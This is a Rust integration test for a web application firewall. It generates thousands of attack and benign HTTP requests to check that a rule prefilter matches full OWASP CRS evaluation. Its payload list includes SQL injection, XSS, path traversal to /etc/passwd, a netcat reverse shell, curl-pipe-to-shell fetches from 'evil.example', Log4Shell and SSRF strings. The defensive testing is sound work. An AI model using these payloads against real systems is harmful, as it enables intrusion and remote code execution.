//! The rule prefilter changes nothing but speed: requests of our own making (thousands,
//! attacks and benign, in arguments, names, headers, cookies, paths, JSON and forms),
//! and every request of the CRS regression suite, are evaluated by the full CRS twice,
//! once as the engine runs and once with the prefilter off (every rule on every value),
//! and must give the same interventions, the same matched rules in the same order, and
//! the same anomaly scores.

// An integration-test crate: helpers outside #[test] fns panic to report a failure, as the
// tests do (clippy.toml's allow-unwrap-in-tests covers only #[test] and #[cfg(test)]).
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;
mod ftw;

use common::differential::{Rng, compare, load, prelude_at};
use palisade_inspect::{RECOMMENDED_BASE_RULES, RequestHead};

const ATTACKS: &[&str] = &[
    "1' OR '1'='1",
    "1 UNION SELECT username,password FROM users--",
    "1; DROP TABLE users",
    "admin'--",
    "' or 1=1#",
    "1 AND SLEEP(5)",
    "1' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)--",
    "1/**/UNION/**/SELECT/**/1,2,3",
    "'; EXEC xp_cmdshell('dir')--",
    "1' waitfor delay '0:0:5'--",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\">",
    "\"><body onload=alert('x')>",
    "<a href=\"vbscript:msgbox(1)\">",
    "expression(alert(1))",
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/shadow",
    "....//....//etc/passwd",
    "file:///etc/passwd",
    "; cat /etc/passwd",
    "| nc -e /bin/sh 10.0.0.1 4444",
    "$(curl http://evil.example/x.sh|sh)",
    "`id`",
    "&& wget http://evil.example/a",
    "powershell -enc SQBFAFgA",
    "cmd.exe /c dir",
    "<?php system($_GET['c']); ?>",
    "php://filter/convert.base64-encode/resource=index.php",
    "${jndi:ldap://evil.example/a}",
    "${7*7}",
    "{{7*7}}",
    "java.lang.Runtime.getRuntime().exec('id')",
    "require('child_process').exec('id')",
    "__proto__[admin]=1",
    "http://169.254.169.254/latest/meta-data/",
    "gopher://127.0.0.1:6379/_INFO",
    "%0d%0aSet-Cookie:%20x=1",
    "\r\nLocation: http://evil.example",
    "() { :; }; /bin/bash -c id",
    "<!--#exec cmd=\"ls\"-->",
    "<xsl:value-of select=\"system-property('xsl:vendor')\"/>",
    "eval(String.fromCharCode(97,108,101,114,116))",
    "SELECT * FROM users WHERE id=1",
    "1 or benchmark(10000000,MD5(1))",
    "'||(select extractvalue(xmltype('<x/>'),'/l') from dual)||'",
    "db.users.find({$where: 'sleep(100)'})",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "%{(#_='multipart/form-data')}",
];

const BENIGN: &[&str] = &[
    "red",
    "42",
    "price_asc",
    "Jane Doe",
    "jane.doe@example.com",
    "Trail running shoe model 7",
    "waterproof trail running shoes",
    "12 Main St, Berlin",
    "SKU-00042",
    "2024-05-01T10:00:00Z",
    "Leave at the back door, please.",
    "O'Brien",
    "rock & roll",
    "50% off",
    "C:\\Users\\jane",
    "a+b=c",
    "https://shop.example.com/catalog?page=3",
    "select your size",
    "drop-down menu",
    "union station",
    "<b>bold</b> text",
    "I'd like 2-3 items; thanks!",
    "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0",
    "{\"nested\":true}",
    "()",
    "--",
    "",
    "=",
    "ÄÖÜ straße",
    "\u{2019}quoted\u{2019}",
];

const NAMES: &[&str] = &[
    "q", "id", "page", "sort", "color", "user", "email", "comment", "file", "redirect", "url",
    "search", "name", "data", "cmd", "callback", "lang", "token",
];

fn url_encode(s: &str, all: bool) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if !all && (b.is_ascii_alphanumeric() || b"-_.~".contains(&b)) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// A value of one family, possibly disguised the ways attackers and browsers do.
fn value(rng: &mut Rng) -> String {
    let base = if rng.below(2) == 0 {
        rng.pick(ATTACKS).to_string()
    } else {
        rng.pick(BENIGN).to_string()
    };
    match rng.below(9) {
        0 => base.to_uppercase(),
        1 => base
            .chars()
            .enumerate()
            .map(|(i, c)| {
                if i % 2 == 0 {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect(),
        2 => base.replace(' ', "/**/"),
        3 => base.replace('<', "&lt;").replace('>', "&gt;"),
        4 => url_encode(&base, true),
        5 => base.replace(' ', "\t"),
        6 => format!("{base}\u{0}"),
        7 => format!("x {base} y"),
        _ => base,
    }
}

fn head(method: &str, uri: String, headers: Vec<(String, Vec<u8>)>) -> RequestHead {
    let mut all = vec![
        ("Host".to_string(), b"shop.example.com".to_vec()),
        (
            "User-Agent".to_string(),
            b"Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0".to_vec(),
        ),
        ("Accept".to_string(), b"text/html,*/*;q=0.8".to_vec()),
    ];
    all.extend(headers);
    RequestHead {
        method: method.into(),
        uri,
        protocol: "HTTP/1.1".into(),
        headers: all,
    }
}

fn json_string(s: &str) -> String {
    serde_json::Value::String(s.to_string()).to_string()
}

/// One generated request of family `n % 8`.
fn request(rng: &mut Rng, n: usize) -> (RequestHead, Vec<u8>) {
    let args = |rng: &mut Rng, k: usize| -> String {
        (0..k)
            .map(|_| {
                let name = rng.pick(NAMES);
                format!("{name}={}", url_encode(&value(rng), false))
            })
            .collect::<Vec<_>>()
            .join("&")
    };
    match n % 8 {
        // Query arguments.
        0 => {
            let k = 1 + rng.below(5);
            let q = args(rng, k);
            (
                head("GET", format!("/catalog/items?{q}"), vec![]),
                Vec::new(),
            )
        }
        // An argument name carries the payload.
        1 => {
            let v = value(rng);
            let q = format!("{}=1&page=2", url_encode(&v, false));
            (head("GET", format!("/search?{q}"), vec![]), Vec::new())
        }
        // Path.
        2 => {
            let v = url_encode(&value(rng), false);
            (head("GET", format!("/files/{v}"), vec![]), Vec::new())
        }
        // Headers.
        3 => {
            let name = [
                "Referer",
                "X-Forwarded-For",
                "X-Custom-Header",
                "User-Agent",
            ][rng.below(4)];
            let v = value(rng).into_bytes();
            (
                head("GET", "/".into(), vec![(name.to_string(), v)]),
                Vec::new(),
            )
        }
        // Cookies, values and names.
        4 => {
            let c = format!(
                "session=8f14e45fceea; {}={}",
                url_encode(rng.pick(NAMES), false),
                url_encode(&value(rng), false)
            );
            (
                head(
                    "GET",
                    "/account".into(),
                    vec![("Cookie".into(), c.into_bytes())],
                ),
                Vec::new(),
            )
        }
        // JSON body.
        5 => {
            let items: Vec<String> = (0..1 + rng.below(6))
                .map(|_| {
                    format!(
                        "{{\"sku\":{},\"{}\":{}}}",
                        json_string(&value(rng)),
                        rng.pick(NAMES),
                        json_string(&value(rng))
                    )
                })
                .collect();
            let body = format!(
                "{{\"customer\":{{\"name\":{}}},\"items\":[{}]}}",
                json_string(&value(rng)),
                items.join(",")
            );
            (
                head(
                    "POST",
                    "/api/orders".into(),
                    vec![
                        ("Content-Type".into(), b"application/json".to_vec()),
                        ("Content-Length".into(), body.len().to_string().into_bytes()),
                    ],
                ),
                body.into_bytes(),
            )
        }
        // Urlencoded form.
        6 => {
            let k = 1 + rng.below(20);
            let body = args(rng, k);
            (
                head(
                    "POST",
                    "/account/profile".into(),
                    vec![
                        (
                            "Content-Type".into(),
                            b"application/x-www-form-urlencoded".to_vec(),
                        ),
                        ("Content-Length".into(), body.len().to_string().into_bytes()),
                    ],
                ),
                body.into_bytes(),
            )
        }
        // Multipart form with a field and a file.
        _ => {
            let body = format!(
                "--b0undary\r\nContent-Disposition: form-data; name=\"{}\"\r\n\r\n{}\r\n--b0undary\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"{}\"\r\nContent-Type: text/plain\r\n\r\n{}\r\n--b0undary--\r\n",
                rng.pick(NAMES),
                value(rng),
                ["report.txt", "shell.php", "a.jsp", "notes.txt"][rng.below(4)],
                value(rng)
            );
            (
                head(
                    "POST",
                    "/upload".into(),
                    vec![
                        (
                            "Content-Type".into(),
                            b"multipart/form-data; boundary=b0undary".to_vec(),
                        ),
                        ("Content-Length".into(), body.len().to_string().into_bytes()),
                    ],
                ),
                body.into_bytes(),
            )
        }
    }
}

#[test]
fn prefilter_matches_exactly_what_full_evaluation_matches_on_generated_requests() {
    let Some(crs) = common::crs4() else { return };
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let requests: Vec<_> = (0..1600)
        .map(|n| {
            let (head, body) = request(&mut rng, n);
            (format!("generated/{n}"), head, body)
        })
        .collect();
    for pl in [1, 4] {
        let rs = load(&crs, prelude_at(pl), None);
        // PL4 evaluates every rule PL1 does and more; PL1 sees a smaller share.
        let share = if pl == 1 {
            &requests[..800]
        } else {
            &requests[..]
        };
        let (matched, blocked) = compare(&rs, share, &format!("PL{pl}"));
        // The corpus must exercise the rules: attacks match and get blocked, not all do.
        assert!(
            matched > share.len() / 3 && blocked > share.len() / 5 && blocked < share.len(),
            "PL{pl}: {matched} of {} requests matched a rule, {blocked} blocked",
            share.len()
        );
    }
}

/// Half of the CRS regression suite's requests (files alternate), both ways; two tests
/// so that each stays well inside the per-test time limit.
fn compare_crs_regression_half(half: usize) {
    let Some(crs) = common::crs4() else { return };
    let data = common::repo_root().join("inspect/tests/data");
    let rs = load(
        &crs,
        RECOMMENDED_BASE_RULES.to_string(),
        Some(&data.join("crs-v4-regression-setup.conf")),
    );
    let mut requests = Vec::new();
    let files = ftw::test_files(&crs.join("tests/regression/tests"));
    for file in files.iter().skip(half).step_by(2) {
        for case in ftw::parse_file(file) {
            let label = format!("{}-{}", case.rule_id, case.test_id);
            requests.extend(
                case.requests()
                    .into_iter()
                    .map(|(head, body)| (label.clone(), head, body)),
            );
        }
    }
    assert!(
        requests.len() > 1500,
        "only {} requests in this half of the suite",
        requests.len()
    );
    let (matched, _) = compare(&rs, &requests, "CRS regression suite");
    assert!(
        matched > requests.len() / 2,
        "{matched} of {} matched",
        requests.len()
    );
}

#[test]
fn prefilter_matches_exactly_what_full_evaluation_matches_on_crs_regression_requests_1() {
    compare_crs_regression_half(0);
}

#[test]
fn prefilter_matches_exactly_what_full_evaluation_matches_on_crs_regression_requests_2() {
    compare_crs_regression_half(1);
}
